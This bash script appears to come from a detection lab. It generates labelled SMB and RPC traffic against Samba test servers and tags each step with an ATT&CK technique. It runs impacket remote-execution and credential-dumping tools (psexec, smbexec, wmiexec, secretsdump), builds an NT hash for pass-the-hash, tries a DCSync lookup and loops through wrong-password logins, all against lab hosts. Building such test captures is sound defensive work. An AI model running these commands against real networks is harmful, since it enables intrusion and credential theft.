#!/usr/bin/env bash
# The operations of remote administration by SMB and RPC, against Samba, which refuses what would run something. See README.md.
source "$(dirname "$0")/../lab.sh"

lab_start 6
host files 11
host secret 12
host ws-x 66
host ws-admin 25
smb_server files
smb_server secret 'server smb encrypt = desired'

rm -f "$OUT"/capture*
capture_start "$OUT/capture.pcap"
on_files=CORP/itadmin:lab-itadmin@$NET.11
on_secret=CORP/itadmin:lab-itadmin@$NET.12

# Near misses: what a helpdesk does all day.
step ordinary 25 11 smb 445 itadmin success "" "helpdesk lists shares (srvsvc)"
as ws-admin itadmin timeout 20 smbclient -p 445 -s /dev/null -L "//$NET.11" -U 'CORP/itadmin%lab-itadmin' >>"$LAB/log/smb" 2>&1 || true
step ordinary 25 11 smb 445 itadmin success "" "helpdesk looks up a user (samr and lsarpc)"
as ws-admin itadmin timeout 20 rpcclient -s /dev/null "$NET.11" -p 445 -U 'CORP/itadmin%lab-itadmin' -c 'lookupnames alice; enumdomusers' >>"$LAB/log/smb" 2>&1 || true
sleep 4

# try OUTCOME TECHNIQUE WHAT COMMAND...: a step against files.
try() {
  step attack 66 11 smb 445 itadmin "$1" "$2" "$3"
  shift 3
  "$@"
  sleep 2
}
try denied T1087 "lookupsid: lsarpc QueryInfoPolicy2, refused by Samba" impacket ws-x lookupsid.py "$on_files" 2000
try success T1087 "samrdump: samr enumerates users" impacket ws-x samrdump.py "$on_files"
try success T1012 "reg query: winreg opens and reads a key" impacket ws-x reg.py "$on_files" query -keyName 'HKLM\SOFTWARE'
try success T1007 "services list: svcctl OpenSCManager, EnumServicesStatus" impacket ws-x services.py "$on_files" list
try denied T1543.003 "services create: svcctl CreateService, refused by Samba" impacket ws-x services.py "$on_files" create -name labsvc -display labsvc -path 'C:\Windows\Temp\lab.exe'
try denied T1569.002 "psexec: a program written to an admin share, svcctl CreateService refused" psexec ws-x "$on_files"
try denied T1569.002 "smbexec: svcctl CreateService refused" impacket ws-x smbexec.py "$on_files"
try denied T1053.005 "atexec: the pipe of the task scheduler is not there" impacket ws-x atexec.py "$on_files" whoami
try denied T1003.002 "secretsdump: winreg and svcctl; what it wants is refused" impacket ws-x secretsdump.py "$on_files"

step attack 66 11 smb 445 itadmin success "" "wmiexec: the SMB session for its output"
step attack 66 11 rpc 135 itadmin denied T1047 "wmiexec: ISystemActivator, refused: Samba has no DCOM"
impacket ws-x wmiexec.py "$on_files" whoami
step attack 66 11 rpc 135 "" denied T1003.006 "DCSync attempt: asks the endpoint mapper for drsuapi, which only a domain controller has"
as ws-x itadmin $PYTHON -c "from impacket.dcerpc.v5 import drsuapi, epm
epm.hept_map('$NET.11', drsuapi.MSRPC_UUID_DRSUAPI, protocol='ncacn_ip_tcp')" >>"$LAB/log/impacket" 2>&1 || true
step attack 66 11 rpc 135 "" success T1018 "rpcdump: the endpoint mapper's list"
impacket ws-x rpcdump.py "$on_files"

step attack 66 11 smb 445 itadmin success T1550.002 "pass the hash: reg query with the NT hash instead of the password"
hash=$(printf lab-itadmin | iconv -t utf-16le | openssl dgst -md4 -provider legacy -provider default | sed 's/.*= *//')
impacket ws-x reg.py -hashes ":$hash" "CORP/itadmin@$NET.11" query -keyName 'HKLM\SOFTWARE'
step attack 66 11 smb 445 bob denied T1021.002 "bob opens ADMIN\$: access denied"
smb ws-x bob "$NET.11" 'ADMIN$' ls
for ((n = 0; n < 6; n++)); do
  step attack 66 11 smb 445 itadmin failure T1110 "a wrong password"
  as ws-x bob timeout 20 smbclient "//$NET.11/C\$" -p 445 -s /dev/null -W CORP -U "itadmin%guess-$n" -c ls >>"$LAB/log/smb" 2>&1 || true
done

# The same against a server that encrypts: operations cannot be seen, only that there is an encrypted session.
step attack 66 12 smb 445 itadmin denied T1569.002 "psexec, encrypted SMB: nothing but the session is visible"
psexec ws-x "$on_secret"
step attack 66 12 smb 445 itadmin success T1007 "services list, encrypted SMB"
impacket ws-x services.py "$on_secret" list

capture_stop
expected "$OUT/capture.pcap"
